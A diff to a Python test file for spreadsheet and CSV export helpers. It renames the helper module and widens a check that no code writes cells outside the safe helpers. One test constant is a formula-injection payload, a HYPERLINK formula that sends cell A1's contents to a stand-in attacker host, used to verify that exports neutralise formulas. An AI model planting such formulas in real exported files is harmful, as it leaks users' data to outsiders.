@@ -12,8 +12,7 @@ import zipfile
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from models import Audience, OrgKind, ParentSignup, Role, db, now_utc
-from webapp.spreadsheets import (
+from formats.spreadsheets import (
     FORMULA_TRIGGERS,
     append_row,
     csv_bytes,
@@ -22,6 +21,7 @@ from webapp.spreadsheets import (
     write_cell,
     xlsx_template,
 )
+from models import Audience, OrgKind, ParentSignup, Role, db, now_utc
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
 CONTROL = "Ива\x01нов\x07\x1b"  # PostgreSQL refuses NUL in text, so no \x00 in the database
@@ -111,7 +111,7 @@ def test_csv_keeps_numbers_and_plain_text_and_drops_control_characters():
 
 
 def test_template_examples_are_written_safely():
-    from webapp.spreadsheets import Column
+    from formats.spreadsheets import Column
 
     data = xlsx_template([Column("a", "Фамилия")], [[FORMULA], [CONTROL]])
     _no_formulas(data)
@@ -215,7 +215,7 @@ def test_baseline_templates(client, auth, factory, admin, fmt):
 # ---------------------------------------------------------------------------------------------
 # No export bypasses the helpers
 
-SOURCES = ("webapp", "reports", "checkin", "models")
+SOURCES = ("webapp", "reports", "checkin", "models", "formats", "errors")
 
 
 def _python_sources():
@@ -236,7 +236,7 @@ def test_no_module_writes_cells_or_csv_around_the_helpers():
     offenders = []
     for path, text in _python_sources():
         if "csv.writer" in text or "csv.DictWriter" in text:
-            offenders.append(f"{path}: csv writer (use webapp.spreadsheets.csv_bytes)")
+            offenders.append(f"{path}: csv writer (use formats.spreadsheets.csv_bytes)")
         if "openpyxl" in text:
             for pattern in (raw_cell_write, raw_append):
                 offenders += [f"{path}: {m.group(0)} (use write_cell / append_row)"
